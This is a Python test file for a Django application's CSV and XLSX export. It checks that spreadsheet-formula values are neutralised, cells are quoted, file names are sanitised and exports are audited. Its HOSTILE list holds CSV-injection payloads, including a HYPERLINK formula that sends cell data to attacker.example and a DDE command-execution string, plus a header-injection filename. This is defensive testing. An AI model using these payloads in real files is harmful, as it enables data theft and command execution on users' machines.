"""Exports neutralise formulas, keep every script's text, are attachments, and are audited."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io

import pytest
from django.contrib.auth.models import User
from openpyxl import load_workbook

from inquest.web.access.levels import Level
from inquest.web.audit.models import AuditEntry
from inquest.web.exports import (
    Export,
    as_download,
    csv_bytes,
    export_response,
    neutralise,
    safe_filename,
    xlsx_bytes,
)

from .personas import Personas

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b\u00a0@SUM(A1)",
    "\uff1d1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_gets_a_leading_quote(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["علی نمونه", "Ali Nemuneh", "", "a=b", "x;=1+1", 42, -3.5, None])
def test_other_values_are_left_alone(value: object) -> None:
    assert neutralise(value) == value


def test_csv_cells_are_neutralised_and_persian_kept() -> None:
    content, n = csv_bytes(
        ["name", "=header"], [[v, "مریم آزمایشی"] for v in HOSTILE] + [[-7, None]]
    )
    assert n == len(HOSTILE) + 1 and content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["name", "'=header"]
    assert [r[0] for r in rows[1:-1]] == ["'" + v for v in HOSTILE]
    assert rows[1][1] == "مریم آزمایشی"
    assert rows[-1] == ["-7", ""]  # a number is a number, not text that looks like a formula


def test_csv_fields_are_all_quoted_so_no_separator_splits_a_cell() -> None:
    content, _ = csv_bytes(["name"], [["x;=1+1"], ["y,=1+1"], ["z\t=1+1"]])
    text = content.decode("utf-8-sig")
    assert text.splitlines()[1:] == ['"x;=1+1"', '"y,=1+1"', '"z\t=1+1"']
    for sep in ";,\t":
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))
        assert [len(r) for r in rows] == [1, 1, 1, 1]


def test_xlsx_cells_are_text_never_formulas() -> None:
    content, n = xlsx_bytes(["name", "died"], [[v, dt.date(1988, 8, 1)] for v in HOSTILE])
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None and n == len(HOSTILE)
    cells = [sheet.cell(row=i + 2, column=1) for i in range(len(HOSTILE))]
    assert all(c.data_type == "s" for c in cells)
    # A carriage return comes back as written (openpyxl with lxml escapes it) or as a line
    # feed (without lxml, XML keeps no bare one): either way after the quote.
    read = [str(c.value).replace("\r", "\n") for c in cells]
    assert read == ["'" + v.replace("\r", "\n") for v in HOSTILE]
    assert sheet.cell(row=2, column=2).value == dt.datetime(1988, 8, 1)


def test_file_names_are_plain_ascii() -> None:
    assert safe_filename('a"; b\r\nX-Evil: 1', "csv") == "a_b_X-Evil_1.csv"
    assert safe_filename("فهرست", "xlsx") == "export.xlsx"


def test_export_response_is_an_audited_attachment(personas: Personas) -> None:
    user: User = personas.analyst
    export = Export("records A", ["name"], [["=1+1"]], subject=User, level=Level.INTERNAL)
    response = export_response(user, export, "csv")
    assert response["Content-Disposition"] == 'attachment; filename="records_A.csv"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    entry = AuditEntry.objects.get(action="export")
    assert entry.actor_id == user.pk
    assert entry.detail["sha256"] == hashlib.sha256(response.content).hexdigest()
    assert entry.detail["rows"] == 1 and entry.detail["format"] == "csv"
    with pytest.raises(ValueError, match="unknown export format"):
        export_response(user, export, "ods")  # type: ignore[arg-type]


def test_as_download_marks_any_response() -> None:
    from django.http import HttpResponse

    response = as_download(HttpResponse(b"<svg/>", content_type="image/svg+xml"), "plot.svg")
    assert response["Content-Disposition"].startswith("attachment;")
